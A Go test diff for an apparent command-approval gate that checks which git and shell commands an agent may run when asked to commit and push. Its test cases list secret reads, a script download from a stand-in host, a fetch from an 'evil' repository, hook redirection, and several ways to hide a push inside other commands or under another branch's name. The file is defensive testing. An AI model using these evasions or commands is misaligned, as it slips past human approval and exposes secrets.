@@ -137,6 +137,24 @@ func TestOrders(t *testing.T) {
 		{"commit and push", "cat .env", push, true},
 		{"commit and push", "curl -o x.sh https://a.example/x.sh", push, true},
 		{"commit and push", "go test ./...", push, false},
+		{"commit and push", "git merge fork/main", push, true},
+		{"commit and push", "git fetch https://github.com/evil/x.git main && git cherry-pick FETCH_HEAD", push, true},
+		{"commit and push", "", "git fetch fork && git merge fork/main && git push", true},
+		{"commit and push", "git fetch origin && git merge origin/main", push, false},
+		{"commit and push", "git config core.hooksPath /tmp/x", push, true},
+		{"commit and push", "git reset -q --soft other", push, true},
+		{"commit and push", "git reset -q other", push, true},
+		{"commit and push", "git reset -q --soft HEAD~2", push, false},
+		{"commit and push", "git reset -q a.go", push, false},
+		{"commit and push", "git update-ref refs/heads/fix other", push, true},
+		{"commit and push", "", "git submodule foreach git push", true},
+		{"commit and push", "", "git submodule foreach 'git push origin fix'", true},
+		{"commit and push", "", "find sub -maxdepth 0 -execdir git push \\;", true},
+		{"commit and push", "", "git rebase -x 'git push' HEAD~1", true},
+		{"commit and push", "", "git bisect run git push", true},
+		{"commit and push", "", "watch git push", true},
+		{"commit and push", "", "timeout 60 git push", false},
+		{"commit and push", "", "git commit -qm 'fix push' && git push", false},
 	} {
 		for _, observes := range []bool{true, false} {
 			m := Memory{Observes: observes}
@@ -266,6 +284,35 @@ func TestOrdersOfVersion1(t *testing.T) {
 	old := bytes.Replace(encoded(t, &m), []byte(`"version":2`), []byte(`"version":1`), 1)
 	if err := new(Memory).UnmarshalBinary(old); !errors.Is(err, ErrMemory) {
 		t.Errorf("read with %v", err)
+	}
+}
+
+// TestPushesFrom: a yes to a push of a branch is none to one of another branch under its name.
+func TestPushesFrom(t *testing.T) {
+	for _, tt := range []struct {
+		first, then string
+		asks        bool
+	}{
+		{"git push origin fix", "git push origin fix", false},
+		{"git push origin fix", "git push origin HEAD", false},
+		{"git push origin fix", "git push origin HEAD:fix", false},
+		{"git push origin fix", "git push origin fix:refs/heads/fix", false},
+		{"git push origin fix", "git push origin other:fix", true},
+		{"git push origin fix", "git push origin stash@{0}:fix", true},
+		{"git push origin fix", "git push origin FETCH_HEAD:fix", true},
+		{"git push origin main", "git push origin HEAD:main", true},
+		{"git push origin main", "git push origin fix:main", true},
+		{"git push origin HEAD:main", "git push origin fix:main", false},
+		{"git push origin fix:main", "git push origin other:main", true},
+		{"git push git@github.com:acme/shop.git fix", "git push origin fix", false},
+	} {
+		var m Memory
+		c, d := inShop(t, &m, tt.first)
+		m.Let("k", "", c, &d, 1)
+		m.Ended("k", c, 1)
+		if _, d = inShop(t, &m, tt.then); (d.Disposition != gates.Approved) != tt.asks {
+			t.Errorf("%q, then %q: %v %v", tt.first, tt.then, d.Disposition, d.Reasons)
+		}
 	}
 }
 
